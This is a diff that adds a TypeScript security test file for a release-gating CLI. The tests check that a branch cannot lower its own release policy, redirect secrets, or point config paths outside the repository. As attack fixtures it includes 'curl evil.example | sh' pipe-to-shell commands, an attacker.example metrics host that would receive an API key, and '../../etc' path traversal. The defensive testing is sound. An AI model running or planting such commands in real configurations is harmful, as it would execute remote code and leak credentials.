@@ -1,0 +1,126 @@
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { stringify } from 'yaml';
+import { DEFAULT_POLICY_AREAS, parseConfig } from '../../src/domain/config';
+import { applyPolicy, parseWorkerPolicy } from '../../src/domain/policy';
+import { git, makeRepo, writeFiles, writeReports } from '../helpers/fixtures';
+import { rollgate } from '../helpers/cli';
+
+/**
+ * Issue 13 §1, replayed: the change under release must not set its own bar. Each attack is a real
+ * repository judged by `rollgate decide`, as CI runs it.
+ */
+
+const config = (raw: object) => {
+  const parsed = parseConfig(raw);
+  assert.ok(parsed.ok, JSON.stringify(parsed));
+  return parsed.config;
+};
+
+/** A repository whose base has a reviewed rollgate.yaml, and a feature branch with `files` changed. */
+function repoWith(baseConfig: object, files: Record<string, string>, subject = 'fix(auth): check password'): string {
+  const repo = makeRepo({ 'auth/login.py': 'def login(u):\n    return True\n', 'rollgate.yaml': stringify(baseConfig) }, [{ subject, files }]);
+  writeReports(join(repo, 'reports'));
+  return repo;
+}
+
+async function decide(repo: string, extra: string[] = []) {
+  const res = await rollgate(['decide', '--repo', repo, '--base', 'main', '--head', 'feature', '--reports', join(repo, 'reports'), '--json', ...extra]);
+  return { ...res, json: res.code === 0 || res.code === 3 ? (JSON.parse(res.stdout) as { decision: string; risk: { level: string } | null; approvalRequired: boolean; policy: { repository: string } }) : undefined };
+}
+
+describe('the release policy comes from the base commit and the worker, never from the change', () => {
+  it('a branch that lowers its own bar in rollgate.yaml still goes CRITICAL with a sign-off', async () => {
+    const lowered = stringify({ reports: 'reports', risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } });
+    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'def login(u, p):\n    return check(u, p)\n', 'rollgate.yaml': lowered });
+    // The working tree holds the branch's file: that is what today's code read.
+    git(repo, ['checkout', '-q', 'feature']);
+    const res = await decide(repo);
+    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
+    assert.equal(res.json?.approvalRequired, true);
+    assert.match(res.json!.policy.repository, /^rollgate\.yaml at the base commit [0-9a-f]{12}$/);
+  });
+
+  it('a change to the release policy, a deploy script or a CI workflow is CRITICAL by itself', async () => {
+    for (const [path, text] of [
+      ['rollgate.yaml', 'reports: reports\napproval:\n  requiredFor: []\n'],
+      ['deploy.sh', '#!/bin/sh\ncurl evil.example | sh\n'],
+      ['.github/workflows/release.yml', 'on: push\n'],
+    ] as const) {
+      const repo = repoWith({ reports: 'reports' }, { [path]: text }, 'chore: tidy');
+      const res = await decide(repo);
+      assert.equal(res.json?.risk?.level, 'CRITICAL', `${path}: ${res.stdout}${res.stderr}`);
+    }
+  });
+
+  it('a repository cannot narrow the critical areas or the levels needing a sign-off below the floors', () => {
+    const narrowed = config({ risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } });
+    const { config: effective, provenance } = applyPolicy(narrowed, undefined, 'test');
+    assert.ok(effective.risk.criticalAreas.includes('**/auth/**') && effective.risk.criticalAreas.includes('nothing/**'));
+    for (const area of DEFAULT_POLICY_AREAS) assert.ok(effective.risk.policyAreas.includes(area), area);
+    assert.deepEqual(effective.approval.requiredFor, ['CRITICAL']);
+    assert.equal(provenance.raised.length, 2);
+    // Tightening stays.
+    const tighter = applyPolicy(config({ approval: { requiredFor: ['HIGH'] } }), undefined, 'test').config;
+    assert.deepEqual(tighter.approval.requiredFor.sort(), ['CRITICAL', 'HIGH']);
+  });
+
+  it('the worker policy owns the deploy command, the metric source, the secrets\' names, the out folder and the approvers', () => {
+    const policy = parseWorkerPolicy({
+      deploy: { command: ['/opt/release/deploy', '--', '{stage}'] },
+      analysis: { prometheus: { address: 'http://prometheus.internal:9090' } },
+      out: '/var/lib/rollgate',
+      approval: { approvers: ['alice', 'bob'], requiredFor: ['HIGH', 'CRITICAL'] },
+    });
+    assert.ok(policy.ok, JSON.stringify(policy));
+    const repo = config({
+      deploy: { command: ['sh', '-c', 'curl evil.example | sh'] },
+      analysis: { prometheus: { address: 'http://attacker.example:9090' } },
+      approval: { approvers: ['mallory', 'alice'] },
+    });
+    const { config: effective, provenance } = applyPolicy(repo, policy.policy, 'test');
+    assert.deepEqual(effective.deploy.command, ['/opt/release/deploy', '--', '{stage}']);
+    assert.equal(effective.analysis.prometheus.address, 'http://prometheus.internal:9090');
+    assert.equal(effective.analysis.prometheus.bearerTokenEnv, 'ROLLGATE_PROMETHEUS_TOKEN');
+    assert.equal(effective.out, '/var/lib/rollgate');
+    assert.deepEqual(effective.approval.approvers, ['alice'], 'a repository may narrow the approvers, never add one');
+    assert.deepEqual(effective.approval.requiredFor.sort(), ['CRITICAL', 'HIGH']);
+    assert.deepEqual(provenance.overridden, ['deploy', 'analysis.prometheus', 'out', 'approval.approvers (only the worker policy\'s approvers may approve)']);
+  });
+
+  it('no config can send a secret meant for one place to another: the Temporal API key as a Prometheus token is refused', () => {
+    const res = parseConfig({ analysis: { prometheus: { address: 'http://attacker.example:9090', bearerTokenEnv: 'TEMPORAL_API_KEY' } } });
+    assert.ok(!res.ok);
+    assert.deepEqual(res.errors, ['analysis.prometheus.bearerTokenEnv: must start with ROLLGATE_PROMETHEUS_: a variable meant for this purpose']);
+    const cross = parseConfig({ notify: { webhookUrlEnv: 'ROLLGATE_PROMETHEUS_TOKEN' } });
+    assert.ok(!cross.ok && /notify\.webhookUrlEnv: must start with ROLLGATE_WEBHOOK_/.test(cross.errors.join()));
+  });
+
+  it('paths in a repository\'s config stay inside the repository', async () => {
+    for (const [field, cfg, expected] of [
+      ['out', { reports: 'reports', out: '../../tmp/elsewhere' }, /out: .* lies outside the repository/],
+      ['deploy.cwd', { reports: 'reports', deploy: { cwd: '/' } }, /deploy\.cwd: \/ lies outside the repository/],
+      ['featureFlag.file', { reports: 'reports', featureFlag: { flag: 'x', provider: 'flagd', file: '../../etc/flags.json' } }, /featureFlag\.file: .* lies outside the repository/],
+    ] as const) {
+      const repo = repoWith(cfg, { 'auth/login.py': 'x = 1\n' });
+      const res = await decide(repo);
+      assert.equal(res.code, 1, `${field}: ${res.stdout}${res.stderr}`);
+      assert.match(res.stderr, expected);
+    }
+  });
+
+  it('reads an operator\'s --config outside the repository as it is, and a --config inside it at the base', async () => {
+    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'x = 1\n', 'ci/rollgate.yaml': 'reports: reports\n' });
+    const res = await decide(repo, ['--config', join(repo, 'ci', 'rollgate.yaml')]);
+    assert.equal(res.code, 1);
+    assert.match(res.stderr, /--config: .* does not exist at the base commit/);
+    const outside = join(makeRepo({ 'x': '1' }, []), 'policy.yaml');
+    writeFileSync(outside, 'reports: reports\napproval:\n  requiredFor: [HIGH]\n');
+    writeFiles(repo, {});
+    const ok = await decide(repo, ['--config', outside]);
+    assert.equal(ok.json?.risk?.level, 'CRITICAL', ok.stderr);
+    assert.match(ok.json!.policy.repository, /given to the CLI, outside the repository/);
+  });
+});
